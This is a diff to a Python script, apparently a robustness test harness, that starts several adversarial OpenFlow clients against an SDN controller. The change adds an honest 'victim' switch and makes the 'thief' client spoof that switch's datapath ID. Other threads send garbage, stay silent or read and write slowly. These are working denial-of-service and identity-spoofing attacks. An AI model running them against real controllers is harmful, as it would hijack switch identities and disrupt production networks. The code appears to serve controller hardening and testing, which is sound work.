@@ -9,8 +9,10 @@ import sys
 import threading
 import time
 
-HELLO, ERROR, ECHO_REQUEST, FEATURES_REQUEST, FEATURES_REPLY = 0, 1, 2, 5, 6
+HELLO, ECHO_REQUEST, ECHO_REPLY, FEATURES_REPLY = 0, 2, 3, 6
+STATS_REQUEST, STATS_REPLY, BARRIER_REQUEST, BARRIER_REPLY = 16, 17, 18, 19
 SILENT = 1000
+VICTIM = 0x71C7
 
 
 def message(kind, body=b"", xid=1):
@@ -31,10 +33,24 @@ def again(attack):
         while True:
             try:
                 attack(*arguments)
-            except OSError:
+            except (OSError, struct.error):
                 pass
             time.sleep(0.2)
     return run
+
+
+@again
+def victim(target):
+    """An honest switch, whose datapath id is stolen."""
+    answers = {ECHO_REQUEST: (ECHO_REPLY, b""), STATS_REQUEST: (STATS_REPLY, b"\0\1\0\0"), BARRIER_REQUEST: (BARRIER_REPLY, b"")}
+    with connect(target) as peer, peer.makefile("rb") as stream:
+        peer.sendall(message(HELLO) + features(VICTIM))
+        while True:
+            _, kind, length, xid = struct.unpack("!BBHI", stream.read(8))
+            stream.read(length - 8)
+            if kind in answers:
+                reply, body = answers[kind]
+                peer.sendall(message(reply, body, xid))
 
 
 @again
@@ -61,7 +77,7 @@ def garbage(target):
 @again
 def thief(target):
     with connect(target, "127.0.0.66") as peer:
-        peer.sendall(message(HELLO) + features(0xB00000000001))
+        peer.sendall(message(HELLO) + features(VICTIM))
         while peer.recv(4096):
             pass
 
@@ -93,7 +109,7 @@ def impossible(target):
 def main():
     host, port = sys.argv[1].rsplit(":", 1)
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-    for attack in (silent, garbage, thief, slow_reader, slow_writer, impossible):
+    for attack in (victim, silent, garbage, thief, slow_reader, slow_writer, impossible):
         threading.Thread(target=attack, args=((host, int(port)),), daemon=True).start()
     threading.Event().wait()
 
